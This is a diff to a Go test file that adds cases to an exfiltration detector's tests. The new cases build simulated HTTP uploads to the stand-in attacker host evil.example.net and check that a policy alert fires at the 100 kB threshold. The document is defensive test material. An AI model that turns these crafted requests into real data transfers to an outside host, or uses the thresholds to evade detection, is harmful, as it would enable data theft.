@@ -1,6 +1,7 @@
 package command
 
 import (
+	"bytes"
 	"encoding/base64"
 	"fmt"
 	"net/netip"
@@ -10,6 +11,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/google/gopacket/layers"
 	"github.com/santhosh-tekuri/jsonschema/v6"
 	"github.com/stretchr/testify/require"
 )
@@ -100,6 +102,21 @@ func TestExfiltration(t *testing.T) {
 				s.upload(time.Duration(i+1)*time.Second, server, 443, 40_000)
 			}
 		}, []string{"opened exfiltration evil.example.net 120000"}},
+		"a name that is known late": {func(s *scene) {
+			s.later("evil.example.net")
+		}, []string{"opened exfiltration evil.example.net 100330"}},
+		"an allowed name that is known late": {func(s *scene) {
+			s.later("bucket.s3.example.com")
+			s.upload(20*time.Second, sceneServer, 443, 90_000)
+		}, nil},
+		"a name that is known at the end": {func(s *scene) {
+			for i := range 101 {
+				at := time.Duration(i/60) * 100 * time.Second // flows that are closed end after a minute
+				f := s.connect(at, sceneServer, 80)
+				f.say(at+10*time.Millisecond, append([]byte("GET / HTTP/1.1\r\nHost: evil.example.net\r\nCookie: "), bytes.Repeat([]byte{'x'}, 952)...))
+				f.segment(at+5*time.Second, true, &layers.TCP{Seq: f.seq, Ack: f.ack, ACK: true, RST: true}, nil)
+			}
+		}, []string{"opened exfiltration evil.example.net 101000"}},
 		"what the server sends": {func(s *scene) {
 			named(s)
 			f := s.connect(time.Second, sceneServer, 443)
@@ -117,6 +134,18 @@ func TestExfiltration(t *testing.T) {
 			policy := policyFile(t, "allow: [{to: ['*.s3.example.com', aws:S3]}]\nalert: {exfiltration: {bytes: 100kB, within: 5m, to: not-allowed}}\n")
 			require.Equal(t, c.want, alertsOf(t, policy, s.file(), "--aws-ip-ranges", ranges))
 		})
+	}
+}
+
+// later adds five connections, each of which sends 20 kB, half of it before its first request.
+func (s *scene) later(name string) {
+	for i := range 5 {
+		at := time.Duration(3*i) * time.Second
+		f := s.pickUp(sceneServer, 80)
+		f.say(at, bytes.Repeat([]byte{0xfe}, 10_000))
+		f.answer(at+100*time.Millisecond, []byte("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"))
+		f.say(at+2*time.Second, []byte("POST / HTTP/1.1\r\nHost: "+name+"\r\nContent-Length: 10000\r\n\r\n"))
+		f.say(at+2100*time.Millisecond, bytes.Repeat([]byte{0xfe}, 10_000))
 	}
 }
 
